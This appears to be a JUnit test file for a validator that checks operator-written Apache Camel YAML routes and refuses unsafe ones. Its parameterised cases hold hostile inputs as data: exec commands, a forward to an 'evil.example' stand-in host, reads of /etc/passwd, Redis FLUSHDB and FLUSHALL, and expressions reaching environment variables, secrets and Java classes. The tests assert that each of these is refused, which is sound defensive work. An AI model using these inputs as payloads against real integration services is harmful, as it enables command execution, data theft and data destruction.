package io.vinbridge.ops.routes;

import static io.vinbridge.ops.routes.RouteTexts.route;
import static io.vinbridge.ops.routes.RouteTexts.schedule;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import com.jayway.jsonpath.JsonPath;
import io.vinbridge.failures.Failure;
import io.vinbridge.failures.Reason;
import io.vinbridge.ops.routes.check.RouteCheck;
import io.vinbridge.ops.routes.check.RouteSet;
import io.vinbridge.testing.Node;
import io.vinbridge.testing.SteeringNames;
import io.vinbridge.testing.World;
import java.net.http.HttpRequest.BodyPublishers;
import java.net.http.HttpResponse;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/** What a route of an operator may not say is refused before it runs, with a reason that helps. */
class RefusedRoutesTest {

    private static final RouteCheck CHECK = World.shared().node().bean(RouteCheck.class);
    private static final RouteSet SHIPPED = ShippedRoutes.read("file:routes");

    static Stream<Arguments> refused() {
        String good = schedule("x", "0 0 * * * ?");
        return Stream.of(
                refused("no YAML", "- route:\n    id: [", "it is no YAML", "line"),
                refused("no route", "hello", "a list of one route"),
                refused("two routes", good + good, "one route"),
                refused("another's id", schedule("poll-data-version", "0 0 * * * ?"), "must be x"),
                refused("unknown component", good.replace("direct:refresh", "nonsense:refresh"), "nonsense"),
                refused("unknown option", good.replace("cron:", "crn:"), "has no option crn", "cron"),
                refused(
                        "option not offered",
                        good.replace("cron:", "recoverableJob: true\n        cron:"),
                        "not offered"),
                refused(
                        "unknown step",
                        good.replace("poll-version", "pol-version"),
                        "refresh.pol-version",
                        "poll-version"),
                refused("step not offered", good.replace("refresh.poll-version", "refresh.describe"), "no step"),
                refused("step of a room to the right", good.replace("refresh.poll-version", "putRoute"), "no step"),
                refused("bad cron", schedule("x", "every now and then"), "cron", "every now and then"),
                refused("no cron", good.replaceAll(" *cron:.*\n", ""), "cron"),
                refused("other time zone", good.replace("UTC", "CET"), "trigger.timeZone", "UTC"),
                refused("another's trigger", good.replace("schedules/x", "schedules/y"), "quartz:schedules/x"),
                refused("unknown member", good.replace("group:", "grp: x\n    group:"), "grp"),
                refused("member missing", good.replaceAll(" *group:.*\n", ""), "group"),
                refused("a room's group", good.replace("group: schedules", "group: api"), "group api"),
                refused("unknown policy", good.replace("group:", "routeConfigurationId: none\n    group:"), "none"),
                refused("autoStartup", good.replace("group:", "autoStartup: perhaps\n    group:"), "autoStartup"),
                refused("secret setting", good.replace("0 0 * * * ?", "{{chromedata.account-secret}}"), "may not name"),
                refused("environment", good.replace("0 0 * * * ?", "{{env:PATH}}"), "may not name"),
                refused("bean", good.replace("0 0 * * * ?", "{{bean:x.y}}"), "may not name"),
                refused("unknown setting", good.replace("0 0 * * * ?", "{{vinbridge.values.none}}"), "values.none"),
                step("to: exec:ls", "exec"),
                step("to: file:/tmp", "file"),
                step("to: seda:x", "seda"),
                step("to: bean:x", "bean"),
                step("to: class:java.lang.System", "class"),
                step("to: \"sql:select 1\"", "sql"),
                step("to: \"language:simple:body\"", "language"),
                step("to: http://evil.example/x?bridgeEndpoint=true", "evil.example", "VINBRIDGE_ROUTES_HOSTS"),
                step("to: https://127.0.0.1:9/x", "127.0.0.1:9"),
                step("to: jslt:file:/etc/passwd", "no mapping"),
                step("to: \"jslt:{{vinbridge.routes-location}}/none.jslt\"", "no mapping"),
                step("to: jslt:routes:/../pom.jslt", "no mapping"),
                step("to: spring-redis:other:6379?command=PUBLISH", "connection of this service"),
                step("to: spring-redis:redis:6379?command=FLUSHDB", "command"),
                step("to: spring-redis:redis:6379?command=PUBLISH&redisTemplate=#class:java.lang.Object", "no class"),
                step("to: log:x?level=RAW(INFO)", "password or a key"),
                step("to: {uri: direct, parameters: {name: refresh.pol-version}}", "refresh.pol-version"),
                step("to: {uri: https, parameters: {httpUri: evil.example/x, bridgeEndpoint: true}}", "evil.example"),
                step(
                        "to: {uri: \"https:good.example\", parameters: {httpUri: evil.example, bridgeEndpoint: true}}",
                        "httpUri"),
                step("to: {uri: exec, parameters: {executable: ls}}", "exec"),
                step("toD: direct:refresh.poll-version", "toD"),
                step("bean: {ref: x}", "bean"),
                step("process: {ref: x}", "process"),
                step("script: {groovy: x}", "script"),
                step("setBody: {groovy: x}", "groovy"),
                step("setBody: {method: {ref: x}}", "method"),
                step("setBody: {simple: \"${bean:x}\"}", "other functions"),
                step("setBody: {simple: \"${body.class}\"}", "other functions"),
                step("setBody: {simple: \"${body.getClass.getName}\"}", "other functions"),
                step("setBody: {simple: \"${body.x(1)}\"}", "other functions"),
                step("setBody: {simple: \"${header.scheduler.shutdown}\"}", "other functions"),
                step("setBody: {simple: \"${env.PATH}\"}", "other functions"),
                step("setBody: {simple: \"$simple{env.PATH}\"}", "other functions"),
                step("setBody: {simple: \"${properties:chromedata.account-secret}\"}", "other functions"),
                step("log: \"${camelContext.stop}\"", "other functions"),
                step("filter: {simple: \"${body} is 'java.lang.String'\", steps: []}", "operator is"),
                step("setBody: {simple: {expression: x, resultType: java.lang.Runtime}}", "resultType"),
                step("setBody: {expression: {simple: {expression: \"${env.PATH}\"}}}", "other functions"),
                step("setBody: {constant: \"resource:file:/etc/passwd\"}", "may not read"),
                step("setBody: {constant: \" resource:file:/etc/passwd\"}", "may not read"),
                step("setBody: {constant: \"{{vinbridge.values.none:resource:file:/etc/passwd}}\"}", "may not read"),
                step("setBody: {header: \"resource:file:/etc/passwd\"}", "may not read"),
                step("wireTap: \"log:x.${env:CHROMEDATA_ACCOUNT_SECRET}\"", "may hold a function"),
                step("wireTap: {uri: \"log:${env:PATH}\"}", "may hold a function"),
                step("wireTap: {uri: log:x, parameters: {marker: \"${env:PATH}\"}}", "may hold a function"),
                step("setBody: {header: \"${bean:environment}\"}", "may hold a function"),
                step("setBody: {expression: {header: {expression: \"${bean:x}\"}}}", "may hold a function"),
                step("setBody: {variable: \"$simple{bean:environment}\"}", "may hold a function"),
                step("split: {tokenize: \"${bean:environment}\", steps: [{stop: {}}]}", "may hold a function"),
                step("split: {tokenize: {token: \"${bean:x}\"}, steps: [{stop: {}}]}", "may hold a function"),
                step("removeVariable: {name: \"${bean:environment}\"}", "may hold a function"),
                step("removeHeaders: {pattern: \"${bean:environment}\"}", "may hold a function"),
                step("delay: {constant: \"${bean:environment}\"}", "may hold a function"),
                step("setHeader: {name: CamelRedis.Command, constant: FLUSHALL}", "does not begin with Camel"),
                step("setHeader: {name: CamelHttpUri, constant: \"http://evil\"}", "does not begin with Camel"),
                step("setVariable: {name: \"header:CamelSqlQuery\", constant: select 1}", "does not begin with Camel"),
                step("setHeaders: {headers: []}", "setHeaders"),
                step("setVariables: {variables: []}", "setVariables"),
                step("setProperty: {name: CamelExceptionCaught, constant: x}", "setProperty"),
                step("claimCheck: {operation: Push}", "claimCheck"),
                step("enrich: {constant: direct:refresh.poll-version}", "enrich"),
                step("script: {constant: x}", "script"),
                step(
                        "to: {uri: direct:refresh.poll-version, variableReceive: \"header:CamelSqlQuery\"}",
                        "variableReceive"),
                step("pollEnrich: {constant: sftp:x, timeout: 0, variableReceive: \"header:x\"}", "variableReceive"),
                step("to: {uri: direct:refresh.poll-version, variableSend: \"header:x\"}", "variableSend"),
                refused(
                        "message received into a header",
                        good.replace("uri: quartz", "variableReceive: header:CamelSqlQuery\n      uri: quartz"),
                        "variableReceive"),
                step("setBody: {constant: \"password=hunter2hunter2\"}", "password or a key"),
                step("convertBodyTo: {type: java.lang.String}", "convertBodyTo"),
                step("doTry: {steps: []}", "doTry"),
                step(
                        "aggregate: {correlationExpression: {constant: x}, aggregationStrategy: \"#class:x\", steps: []}",
                        "aggregationStrategy"));
    }

    private static Arguments refused(String what, String text, String... why) {
        return Arguments.of(what, text, why);
    }

    private static Arguments step(String step, String... why) {
        return Arguments.of(step, route("x", step), why);
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("refused")
    void whatMayNotBeSaidIsRefusedWithTheReason(String what, String text, String[] why) {
        Failure failure = catchThrowableOfType(
                Failure.class, () -> CHECK.check("x.camel.yaml", SHIPPED.with("x.camel.yaml", text)));

        assertThat(failure).as(what).isNotNull();
        assertThat(failure.reason()).isEqualTo(Reason.INVALID_ROUTE);
        assertThat(failure.getMessage()).contains(why);
    }

    /** Camel finds a header by its name in any case. */
    static Stream<String> steering() {
        return SteeringNames.all().filter(name -> !name.equals("CamelRedis.Channel"));
    }

    @ParameterizedTest
    @MethodSource("steering")
    void noHeaderAndNoVariableIsNamedLikeWhatSteers(String name) {
        for (String step : List.of("setHeader", "setVariable")) {
            String text = route("x", step + ": {name: \"" + name + "\", constant: x}");

            assertThat(why("x.camel.yaml", text)).as(step).contains("a name is letters");
        }
    }

    /** The form that Kaoto writes: the URI is the component, and all else is a parameter. */
    static Stream<String> canonical() {
        String mapped = "{{vinbridge.routes-location}}/format-flat.jslt";
        return Stream.of(
                begins("quartz", "groupName: schedules, triggerName: x, cron: 0 0 * * * ?, trigger.timeZone: UTC"),
                begins("timer", "timerName: x, period: 3600000"),
                begins(
                        "spring-redis",
                        "host: redis, port: 6379, command: SUBSCRIBE, channels: x, listenerContainer: '#eventsSubscription', serializer: '#eventsSerializer'"),
                begins("direct", "name: x"),
                route("x", "to: {uri: direct, parameters: {name: refresh.poll-version}}"),
                route("x", "wireTap: {uri: log, parameters: {loggerName: x, level: WARN}}"),
                route("x", "to: {uri: jslt, parameters: {resourceUri: \"" + mapped + "\"}}"));
    }

    private static String begins(String component, String parameters) {
        return """
                - route:
                    id: x
                    group: tests
                    description: Begins as Kaoto writes it
                    from:
                      uri: %s
                      parameters: {%s}
                      steps:
                        - to: {uri: direct, parameters: {name: refresh.poll-version}}
                """.formatted(component, parameters.replaceAll("cron: ([^,]*)", "cron: \"$1\""));
    }

    @ParameterizedTest
    @MethodSource("canonical")
    void whatKaotoWritesIsTakenAndRuns(String text) {
        Node node = World.shared().node();

        HttpResponse<String> applied =
                node.send(node.request("/api/v1/routes/x.camel.yaml", "Content-Type", "application/yaml")
                        .PUT(BodyPublishers.ofString(text)));

        assertThat(applied.statusCode()).as(applied.body()).isEqualTo(200);
        assertThat(JsonPath.<String>read(node.get("/routes/x.camel.yaml").body(), "$.state"))
                .isEqualTo("running");
        node.send(node.request("/api/v1/routes/x.camel.yaml").DELETE());
    }

    static Stream<String> allowed() {
        return Stream.of(
                "log: \"This is ${body.kind} of ${header.x} at ${date:now:yyyy-MM-dd}\"",
                "to: {uri: \"log:x\", parameters: {level: WARN}}",
                "filter: {simple: \"${body.kind} == 'x' && ${variable.y} != null\", steps: [{stop: {}}]}",
                "multicast: {parallelProcessing: true, steps: [{to: direct:refresh.poll-version}, {to: direct:act-on-event}]}",
                "split: {tokenize: \",\", steps: [{to: direct:events.accept}]}",
                "throttle: {constant: 10, timePeriodMillis: 1000}",
                "idempotentConsumer: {simple: \"${body}\", idempotentRepository: inboxRepository,"
                        + " steps: [{stop: {}}]}",
                "aggregate: {correlationExpression: {constant: x}, aggregationStrategy: groupedBodies, completionSize: 10,"
                        + " steps: [{to: direct:events.accept}]}",
                "setHeader: {name: X-Operation-Name, constant: x}",
                "setHeader: {name: CamelRedis.Channel, constant: x}",
                "setHeader: {name: operation, constant: x}",
                "setVariable: {name: status, expression: {constant: {expression: sold}}}");
    }

    @ParameterizedTest
    @MethodSource("allowed")
    void whatIsOfferedIsAllowed(String step) {
        CHECK.check("x.camel.yaml", SHIPPED.with("x.camel.yaml", route("x", step)));
    }

    @ParameterizedTest
    @MethodSource("shipped")
    void whatShipsIsAllowed(String file) {
        CHECK.check(file, SHIPPED);
    }

    static Stream<String> shipped() {
        return SHIPPED.files().keySet().stream();
    }

    @Test
    void aMappingMustCompileAndSayWhatItTakes() {
        assertThat(why("format-flat.jslt", "{")).contains("Parse error");
        assertThat(why("format-flat.jslt", "{}")).contains("takes");
        assertThat(why("other.jslt", "import \"file:/etc/passwd\" as x x(.)")).contains("may not import");
        assertThat(why("Bad Name.jslt", "{}")).contains("NAME.jslt");
    }

    @Test
    void whatIsUsedCannotGo() {
        assertThat(why("format-flat.jslt", null)).contains("used by format-flat.camel.yaml");
        assertThat(why("act-on-event.camel.yaml", null)).contains("events-decide");
    }

    @Test
    void noneIsNamedLikeARouteOfTheService() {
        assertThat(why("refresh-claim.camel.yaml", route("refresh-claim", "stop: {}")))
                .contains("the service itself has a route refresh-claim");
    }

    @Test
    void aFormatNeedsItsMapping() {
        String format = SHIPPED.text("format-flat.camel.yaml").replace("format-flat", "format-new");
        assertThat(why("format-new.camel.yaml", format)).contains("format-new.jslt");
    }

    private static String why(String file, String text) {
        Failure failure = catchThrowableOfType(Failure.class, () -> CHECK.check(file, SHIPPED.with(file, text)));
        assertThat(failure).as(text).isNotNull();
        return failure.getMessage();
    }
}
